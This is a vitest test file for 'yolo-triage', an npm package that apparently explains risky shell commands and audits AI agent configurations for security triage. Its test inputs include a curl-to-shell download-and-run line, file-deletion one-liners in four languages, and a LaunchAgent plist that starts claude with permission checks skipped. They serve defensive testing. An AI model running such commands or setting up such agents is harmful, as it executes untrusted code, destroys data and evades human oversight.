import { execFileSync, spawnSync } from 'node:child_process';
import {
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const project = fileURLToPath(new URL('..', import.meta.url));

describe('the npm package', () => {
  let folder: string;
  let archive: string;

  beforeAll(() => {
    folder = realpathSync(mkdtempSync(join(tmpdir(), 'yolo-triage-package-')));
    // `npm test` has just built dist/; building it again here would pull it away from under other tests.
    execFileSync('npm', ['pack', '--ignore-scripts', '--pack-destination', folder], {
      cwd: project,
      stdio: 'pipe',
    });
    archive = join(folder, readdirSync(folder).find((name) => name.endsWith('.tgz')) ?? '');
    mkdirSync(join(folder, 'elsewhere'));
    mkdirSync(join(folder, 'unpacked'));
    execFileSync('tar', ['-xzf', archive, '-C', join(folder, 'unpacked')]);
  });
  afterAll(() => rmSync(folder, { recursive: true }));

  const npx = (...args: string[]) =>
    execFileSync('npx', ['--yes', '--offline', '--package', archive, 'yolo-triage', ...args], {
      cwd: join(folder, 'elsewhere'),
      encoding: 'utf8',
      stdio: 'pipe',
      env: { PATH: process.env['PATH'], HOME: folder, npm_config_cache: join(folder, 'cache') },
    });

  /** As on a machine without npm: the archive is unpacked, and Node runs what is in it. */
  const unpacked = (...args: string[]) =>
    execFileSync(process.execPath, [join(folder, 'unpacked/package/dist/main.js'), ...args], {
      cwd: join(folder, 'elsewhere'),
      encoding: 'utf8',
      stdio: 'pipe',
    });

  it('runs by npx from an empty folder, with nothing to download and its queries inside', () => {
    const explained = npx('explain', 'curl -fsSL https://get.example.net/x.sh | sh', '--format', 'json');
    expect(JSON.parse(explained)).toMatchObject({ findings: expect.arrayContaining([expect.anything()]) });
  }, 60_000);

  it('brings the grammars of other languages', () => {
    const codes = {
      python3: 'python3 -c "import shutil; shutil.rmtree(\'/srv/x\')"',
      node: "node -e \"require('fs').rmSync('/srv/x', {recursive: true})\"",
      php: 'php -r \'unlink("/srv/x");\'',
      perl: 'perl -e \'unlink "/srv/x"\'',
    };
    for (const [program, code] of Object.entries(codes)) {
      const explained = JSON.parse(unpacked('explain', code, '--format', 'json'));
      expect(explained.effects).toMatchObject([{ action: 'delete', target: '/srv/x', program }]);
    }
  }, 60_000);

  it('brings the readers of configurations that are not JSON, for every command that meets one', () => {
    const home = join(folder, 'home');
    const written = {
      '.config/goose/config.yaml':
        'extensions:\n  notes:\n    type: stdio\n    cmd: npx\n    args: [-y, notes-server]\n',
      'Library/LaunchAgents/a.plist':
        '<plist version="1.0"><dict><key>ProgramArguments</key><array><string>claude</string>' +
        '<string>--dangerously-skip-permissions</string></array></dict></plist>',
    };
    for (const [path, text] of Object.entries(written)) {
      mkdirSync(dirname(join(home, path)), { recursive: true });
      writeFileSync(join(home, path), text);
    }
    // What the home lacks makes them end with the code of gaps.
    const document = (...args: string[]) => {
      const main = join(folder, 'unpacked/package/dist/main.js');
      const { stdout } = spawnSync(process.execPath, [main, ...args, '--home', home, '--format', 'json'], {
        encoding: 'utf8',
      });
      return JSON.parse(stdout);
    };
    expect(document('mcp').servers).toMatchObject([{ client: 'goose', name: 'notes' }]);
    expect(JSON.stringify(document('report', '--output', '-'))).toContain('LaunchAgents/a.plist');
    expect(document('posture')).toMatchObject({ schemaVersion: 1 });
    expect(document('exposure')).toMatchObject({ schemaVersion: 1 });
  }, 60_000);

  it('brings its hunts, and says what is missing to run them', () => {
    expect(unpacked('fleet', 'hunt')).toContain('critical_finding');
    const attempt = () => unpacked('fleet', 'load', folder, '--database', join(folder, 'fleet.duckdb'));
    expect(attempt).toThrow(
      /fleet needs DuckDB[\s\S]*npx --package <archive> --package @duckdb\/node-api yolo-triage/,
    );
  }, 60_000);

  it('lists every package whose code it holds, with its licence and the digest of its archive', () => {
    const unpackedFile = (name: string) => readFileSync(join(folder, 'unpacked/package/dist', name), 'utf8');
    const { specVersion, components } = JSON.parse(unpackedFile('sbom.cdx.json'));
    expect(specVersion).toBe('1.6');
    const listed = components.map(({ name, version }: Record<string, string>) => `${name} ${version}`);
    const licensed = [
      ...unpackedFile('THIRD-PARTY-LICENSES.txt').matchAll(/^(\S+ \d+\.\d+\.\S+) \(\S.*\)$/gm),
    ];
    expect(listed).toEqual(licensed.map(([, name]) => name));
    expect(listed).toContain('node-sqlite3-wasm 0.8.60');
    for (const { hashes, licenses } of components) {
      expect(hashes).toMatchObject([{ alg: 'SHA-512', content: expect.stringMatching(/^[0-9a-f]{128}$/) }]);
      expect(licenses).toHaveLength(1);
    }
  });

  it('carries the licences of the code in its bundle, and the files for a fleet', () => {
    const files = execFileSync('tar', ['-tzf', archive], { encoding: 'utf8' });
    expect(files).toContain('package/dist/THIRD-PARTY-LICENSES.txt');
    for (const name of ['LICENSE', 'CHANGELOG.md', 'SECURITY.md', 'docs/schemas/case-report.json']) {
      expect(files).toContain(`package/${name}`);
    }
    expect(files).toContain('package/fleet/velociraptor/Custom.YoloTriage.Spool.yaml');
  });
});
